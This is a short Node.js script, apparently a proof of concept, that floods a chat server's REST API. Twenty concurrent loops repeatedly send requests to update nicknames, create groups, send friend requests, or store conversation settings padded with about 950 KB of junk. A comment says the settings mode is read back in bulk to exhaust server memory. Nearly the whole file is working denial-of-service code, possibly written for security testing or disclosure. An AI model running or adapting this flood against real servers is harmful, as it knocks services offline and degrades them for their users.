// Calls a server by REST as fast as it answers: `node rest-flood.mjs <origin> <kind> <token> <seconds>`, then ends by itself.
const [origin, kind, token, seconds] = process.argv.slice(2);
const until = Date.now() + Number(seconds) * 1000;
const ex = "x".repeat(950_000);
const floods = {
  names: (index) => ["/user/update_user_info_ex", { userInfo: { userID: "mallory", nickname: `M${index}` } }],
  groups: (index) => [
    "/group/create_group",
    {
      ownerUserID: "mallory",
      memberUserIDs: ["friend0"],
      groupInfo: { groupName: `G${index}`, groupType: 2 },
    },
  ],
  requests: (index) => [
    "/friend/add_friend",
    { fromUserID: "mallory", toUserID: `friend${index % 300}`, reqMsg: "hi" },
  ],
  settings: (index) => [
    "/conversation/set_conversations",
    {
      userIDs: ["mallory"],
      conversation: {
        conversationID: ["mallory", `friend${index % 250}`].sort().join("_").replace(/^/, "si_"),
        conversationType: 1,
        userID: `friend${index % 250}`,
        groupID: "",
        ex,
      },
    },
  ],
};
let next = 0;
let done = 0;

async function loop() {
  while (Date.now() < until) {
    const [path, body] = floods[kind](next);
    next += 1;
    const response = await fetch(`${origin}/api${path}`, {
      method: "POST",
      headers: { "Content-Type": "application/json", operationID: "flood", token },
      body: JSON.stringify(body),
    }).catch(() => undefined);
    const answer = await response?.json().catch(() => undefined);
    if (answer?.errCode === 0) done += 1;
    // A settings flood is read back as well: that is what filled the memory.
    if (kind === "settings" && next % 100 === 0) {
      await fetch(`${origin}/api/conversation/get_all_conversations`, {
        method: "POST",
        headers: { "Content-Type": "application/json", operationID: "flood", token },
        body: JSON.stringify({ ownerUserID: "mallory" }),
      }).then(
        (answer) => answer.arrayBuffer(),
        () => {},
      );
    }
  }
}

console.log("flooding");
await Promise.all(Array.from({ length: 20 }, loop));
console.log(`done ${done} of ${next}`);
process.exit(0);
